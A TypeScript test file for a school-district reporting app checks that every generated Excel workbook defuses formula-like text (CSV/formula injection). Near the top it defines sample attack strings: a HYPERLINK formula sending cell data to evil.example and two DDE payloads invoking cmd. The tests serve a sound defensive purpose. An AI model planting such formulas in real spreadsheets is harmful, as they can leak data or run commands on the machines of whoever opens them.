import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join, relative, resolve } from 'node:path';
import ExcelJS from 'exceljs';
import { tokenSheetWorkbook } from '../../../shared/directory/token-sheet';
import { historyTemplate } from '../../../shared/history/template';
import { rollUpDistrictPeriod, type AnnualInput } from '../../../shared/reports/annual/compose';
import { parsePeriod } from '../../../shared/reports/annual/period';
import { renderAnnualWorkbook } from '../../../shared/reports/annual/render/workbook';
import { renderReportWorkbook } from '../../../shared/reports/render/workbook';
import type { DistrictReport } from '../../../shared/reports/types';
import { asPlainText, looksLikeFormula } from '../../../shared/spreadsheets/formula-text';
import { neutraliseFormulaText, workbookBytes } from '../../../shared/spreadsheets/write-workbook';
import { annualMonths, school, submission } from '../reports/fixtures';
import { makeReport } from '../reports/render/fixture';

/*
 * Issue 19, point 8: text that looks like a formula is written to every workbook so that no
 * spreadsheet program can take it for one. Each server workbook is rendered with such text where
 * a school or a roster controls it, read back with exceljs, and no text cell of any sheet may
 * begin like a formula. (The console's browser-side export: test/unit/web/xlsx.test.ts.)
 */

jest.setTimeout(60_000);

const ROOT = resolve(__dirname, '..', '..', '..');

/** What an attacker types: a link that runs when clicked, a DDE command, a function call. */
const HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"点此查看整改要求")';
const DDE = "-2+3+cmd|' /C calc'!A0";
const CALL = '@SUM(1+1)*cmd|" /C calc"!A0';

/** Every text of every cell of every sheet. */
async function textsOf(bytes: Buffer): Promise<string[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  const texts: string[] = [];
  for (const sheet of workbook.worksheets)
    sheet.eachRow({ includeEmpty: false }, (row) =>
      row.eachCell({ includeEmpty: false }, (cell) => {
        if (cell.type === ExcelJS.ValueType.String || cell.type === ExcelJS.ValueType.SharedString)
          texts.push(String(cell.value));
        else if (cell.type === ExcelJS.ValueType.RichText)
          texts.push((cell.value as ExcelJS.CellRichTextValue).richText.map((part) => part.text).join(''));
        else if (cell.type === ExcelJS.ValueType.Hyperlink) texts.push((cell.value as ExcelJS.CellHyperlinkValue).text);
      }),
    );
  return texts;
}

/** `value` with every occurrence of the string `from` (at any depth) replaced by `to`. */
function replacedEverywhere<T>(value: T, from: string, to: string): T {
  const json = (text: string) => JSON.stringify(text).slice(1, -1);
  return JSON.parse(JSON.stringify(value).split(json(from)).join(json(to))) as T;
}

describe('looksLikeFormula and asPlainText', () => {
  it.each([
    ['=1+1', true],
    ['+86 138 0000 0000', true],
    ['-', true],
    ['- 已整改', true],
    ['@SUM(A1)', true],
    ['\t=1+1', true],
    ['\r=1+1', true],
    ['＝1+1', true],
    ['－2+3', true],
    ['-3', false],
    ['+1.5%', false],
    ['-1,234.5', false],
    ['华蓥市第一中学', false],
    ['a=b', false],
    ['', false],
  ])('%j → %s', (text, expected) => {
    // Act / Assess
    expect(looksLikeFormula(text)).toBe(expected);
    expect(asPlainText(text)).toBe(expected ? `'${text}` : text);
  });
});

describe('neutraliseFormulaText', () => {
  it('puts an apostrophe before formula-like text in plain, rich and hyperlink cells, and leaves numbers, formulas and other text alone', async () => {
    // Prepare
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('S');
    sheet.addRow([HYPERLINK, -3, '正常', { richText: [{ text: '=1+1' }, { text: ' 说明' }] }]);
    sheet.addRow([
      { text: '@evil', hyperlink: 'https://example.com/' },
      { formula: '1+1', result: 2 },
    ]);
    sheet.mergeCells('A3:B3');
    sheet.getCell('A3').value = DDE;
    // Act
    const changed = neutraliseFormulaText(workbook);
    const texts = await textsOf(await workbookBytes(workbook));
    // Assess
    expect(changed).toBe(4);
    expect(sheet.getCell('B1').value).toBe(-3);
    expect(sheet.getCell('B2').value).toEqual({ formula: '1+1', result: 2 });
    expect(texts).toEqual([`'${HYPERLINK}`, '正常', "'=1+1 说明", "'@evil", `'${DDE}`]);
  });
});

describe('every workbook the server writes', () => {
  it('the monthly report: a hazard’s place and description and a school’s name from the roster are text, not formulas', async () => {
    // Prepare
    let report: DistrictReport = makeReport();
    report = replacedEverywhere(report, '3 具灭火器压力不足', HYPERLINK);
    report = replacedEverywhere(report, '教学楼二楼走廊', CALL);
    report = replacedEverywhere(report, '华蓥市职业中学', DDE);
    // Act
    const texts = await textsOf(await renderReportWorkbook(report, 'zh-CN'));
    // Assess
    expect(texts.filter(looksLikeFormula)).toEqual([]);
    expect(texts).toEqual(expect.arrayContaining([`'${HYPERLINK}`, `'${CALL}`, `'${DDE}`]));
  });

  it('the year-end summary: a school’s name from the roster is text, not a formula', async () => {
    // Prepare
    const period = parsePeriod('2025-26')!;
    const submissions = [
      submission('s1', 'energy-meter', '2025-10-30', { answers: { electricityKwh: 8800, waterM3: 880 } }),
      submission('s2', 'energy-meter', '2025-10-30', { answers: { electricityKwh: 900, waterM3: 90 } }),
    ];
    const input: AnnualInput = {
      district: { districtId: 'huaying', name: '华蓥市教育局', locale: 'zh-CN', timezone: 'Asia/Shanghai' },
      schools: [school('s1', { name: DDE }), school('s2', { name: HYPERLINK })],
      period,
      months: annualMonths(period, submissions),
      hazards: [],
      now: new Date('2026-09-05T00:00:00.000Z'),
    };
    const { report } = rollUpDistrictPeriod(input);
    // Act
    const texts = await textsOf(await renderAnnualWorkbook(report, 'zh-CN'));
    // Assess
    expect(texts.filter(looksLikeFormula)).toEqual([]);
    expect(texts).toEqual(expect.arrayContaining([`'${DDE}`, `'${HYPERLINK}`]));
  });

  it('the token sheet: a school’s name is text, not a formula', async () => {
    // Act
    const texts = await textsOf(
      await tokenSheetWorkbook(
        [
          {
            schoolId: 'hy-01',
            name: CALL,
            tokenId: 'tok-1',
            loginLink: 'https://app.example/#/login?token=x',
            revoked: [],
          },
        ],
        '华蓥市教育局',
      ),
    );
    // Assess
    expect(texts.filter(looksLikeFormula)).toEqual([]);
    expect(texts).toContain(`'${CALL}`);
  });

  it('the history template holds no text a spreadsheet program could take for a formula', async () => {
    // Act: the form with the most columns and drop-down lists (reading a template back takes seconds)
    const texts = await textsOf(await historyTemplate('canteen-daily'));
    // Assess
    expect(texts).toContain('学校编号');
    expect(texts.filter(looksLikeFormula)).toEqual([]);
  });

  it('writes every workbook through workbookBytes: no other module calls exceljs’s writeBuffer', () => {
    // Prepare
    const sources = (dir: string): string[] =>
      readdirSync(dir).flatMap((name) => {
        const path = join(dir, name);
        if (statSync(path).isDirectory()) return sources(path);
        return path.endsWith('.ts') ? [path] : [];
      });
    // Act
    const writers = ['shared', 'functions', 'infra']
      .flatMap((dir) => sources(join(ROOT, dir)))
      .filter((path) => /\.writeBuffer\(|\.xlsx\.write\(/.test(readFileSync(path, 'utf8')))
      .map((path) => relative(ROOT, path));
    // Assess
    expect(writers).toEqual(['shared/spreadsheets/write-workbook.ts']);
  });
});
